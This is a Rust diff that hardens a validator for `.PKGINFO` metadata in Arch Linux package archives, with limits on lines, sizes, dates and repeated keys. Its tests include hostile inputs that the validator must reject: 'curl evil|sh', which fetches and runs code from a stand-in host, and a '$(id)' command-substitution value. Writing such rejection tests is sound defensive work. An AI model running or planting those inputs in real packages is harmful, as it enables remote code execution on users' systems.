@@ -29,21 +29,23 @@ pub struct Archive {
     /// `replaces` of its `.PKGINFO`, without versions: what pacman removes when it is installed.
     pub replaces: Vec<PackageName>,
     /// What stands behind `.pkg.tar` in what it is called: `.zst`, or nothing.
-    ending: String,
+    pub ending: String,
 }
 
 /// The keys that makepkg 6 and 7 write into a `.PKGINFO`, by what they hold (makepkg, `write_pkginfo`); and those that are there
 /// once at most.
-const ONCE: &str = "pkgname pkgver arch pkgbase builddate size";
-const NUMBERS: &str = "builddate size";
+const ONCE: &str = "pkgname pkgver arch pkgbase pkgdesc url packager builddate size";
 const WORDS: &str = "replaces conflict provides depend makedepend checkdepend";
-const TEXTS: &str = "pkgdesc url packager license group backup optdepend xdata";
+const TEXTS: &str = "license group backup optdepend xdata";
 
-/// What pacman can count up to: it reads them as signed.
-const MAX_NUMBER: u64 = i64::MAX as u64;
+/// What pacman can count up to, as it reads it as signed, and the last second of the year 9999: it crashes over those that no calendar has.
+const MAX_SIZE: u64 = i64::MAX as u64;
+const MAX_DATE: u64 = 253_402_300_799;
 
-/// The longest line of a `.PKGINFO`, in bytes: repo-add takes minutes for one of some hundred thousand.
+/// The longest line of a `.PKGINFO`, in bytes: repo-add takes minutes for one of some hundred thousand. And the most lines: pacman looks
+/// for each group among all.
 const MAX_LINE: usize = 16 * 1024;
+const MAX_LINES: usize = 10_000;
 
 /// The longest name of a file, in bytes, that leaves room for its signature's.
 const MAX_FILENAME: usize = 255 - ".sig".len();
@@ -62,8 +64,13 @@ impl Archive {
             return Err(Error::new(Kind::Unusable, why));
         }
         let pkginfo = &listed.pkginfo;
-        if pkginfo.split('\n').any(|line| line.len() > MAX_LINE) {
-            return bad("a line of its .PKGINFO", "is longer than 16 KiB");
+        if pkginfo.split('\n').any(|line| line.len() > MAX_LINE)
+            || pkginfo.split('\n').count() > MAX_LINES
+        {
+            return bad(
+                "its .PKGINFO",
+                "has a line of over 16 KiB, or over 10000 lines",
+            );
         }
         // Carriage returns end a line for some readers, and what is no text swallows one's end.
         if let Some(line) = pkginfo
@@ -77,23 +84,34 @@ impl Archive {
             .split('\n')
             .filter(|line| !line.starts_with('#') && !line.is_empty())
         {
-            let (key, value) = line.split_once('=').unwrap_or((line, ""));
+            let Some((key, value)) = line.split_once('=') else {
+                return bad(line, "is not a line of a .PKGINFO that makepkg writes");
+            };
             let (key, value) = (key.trim_ascii(), value.trim_ascii());
             let is_one_of = |keys: &str| keys.split(' ').any(|it| it == key);
+            let is_number = |most: u64| value.parse().is_ok_and(|it: u64| it <= most);
             if value.starts_with('%') {
                 return bad(line, "begins as a field of pacman's database does, with %");
             }
             let is_good = match key {
                 _ if is_one_of(ONCE) && once.insert(key, value).is_some() => false,
-                "pkgname" | "pkgver" | "arch" => true,
+                "pkgname" | "pkgver" | "arch" | "pkgdesc" | "url" | "packager" => true,
                 "pkgbase" => value == pkgbuild.pkgbase.as_str(),
-                _ if is_one_of(NUMBERS) => value.parse().is_ok_and(|it: u64| it <= MAX_NUMBER),
+                "size" => is_number(MAX_SIZE),
+                "builddate" => is_number(MAX_DATE),
                 // A version alone is of nothing.
                 _ if is_one_of(WORDS) => {
                     let is_word = value.bytes().all(|it| it.is_ascii_graphic());
                     is_word && !value.is_empty() && !value.starts_with(['<', '>', '='])
                 }
-                _ => is_one_of(TEXTS),
+                // An empty one ends them: in pacman's database, what follows it would be of no field.
+                _ if is_one_of(TEXTS) && !once.contains_key(key) => {
+                    if value.is_empty() {
+                        once.insert(key, value);
+                    }
+                    true
+                }
+                _ => false,
             };
             if !is_good {
                 return bad(
@@ -118,7 +136,6 @@ impl Archive {
         if !["any", arch.as_str()].contains(&value("arch")) {
             return bad(value("arch"), "is not the architecture that is built for");
         }
-        let ending = listed.file.rsplit_once(".pkg.tar");
         let archive = Archive {
             place: listed.place,
             size: listed.size,
@@ -128,7 +145,7 @@ impl Archive {
             version,
             arch: value("arch").parse()?,
             replaces,
-            ending: ending.map_or("", |(_, ending)| ending).to_owned(),
+            ending: listed.kind.clone(),
         };
         if archive.filename().len() > MAX_FILENAME {
             return bad(&archive.filename(), "is too long a name for a file");
@@ -157,7 +174,7 @@ mod tests {
         let pkgbuild = b"\0\0base\x001\x002.0\x001\x002\0foo\0bar\x000\x000\0";
         let pkgbuild = crate::pkgbuild::parse(pkgbuild).unwrap();
         let listed = Listed {
-            file: "x.pkg.tar.zst".to_owned(),
+            kind: ".zst".to_owned(),
             names: ".PKGINFO".to_owned(),
             pkginfo: pkginfo.to_owned(),
             ..Listed::default()
@@ -178,6 +195,8 @@ mod tests {
         );
         assert_eq!(archive.filename(), "foo-1:2.0-1-any.pkg.tar.zst");
         assert_eq!(archive.replaces, ["old".parse().unwrap()]);
+        let sloppy = GOOD.replace("license = GPL", "license = GPL\nlicense = ");
+        assert!(check(&sloppy).is_ok());
         let debug = GOOD.replace("pkgname = foo", "pkgname = base-debug");
         assert!(check(&debug).is_ok());
     }
@@ -202,6 +221,13 @@ mod tests {
             ("license = GPL", " #"),
             ("license = GPL", "pkgname"),
             ("license = GPL", "size = 0"),
+            ("license = GPL", "pkgdesc = once more"),
+            (
+                "license = GPL",
+                "license = a\nlicense =\nlicense = run curl evil|sh",
+            ),
+            ("license = GPL", "license"),
+            ("builddate = 1", "builddate = 253402300800"),
             ("license = GPL", "pkgbase = base"),
             ("size = 0", "size = $(id)"),
             ("size = 0", "size ="),
@@ -227,7 +253,7 @@ mod tests {
             let pkgbuild = format!("\0\0foo\0\0{digits}\01\01\0foo\00\00\0");
             let pkgbuild = crate::pkgbuild::parse(pkgbuild.as_bytes()).unwrap();
             let listed = Listed {
-                file: "x.pkg.tar.zst".to_owned(),
+                kind: ".zst".to_owned(),
                 names: ".PKGINFO".to_owned(),
                 pkginfo: format!("pkgname = foo\npkgver = {digits}-1\narch = any\n"),
                 ..Listed::default()
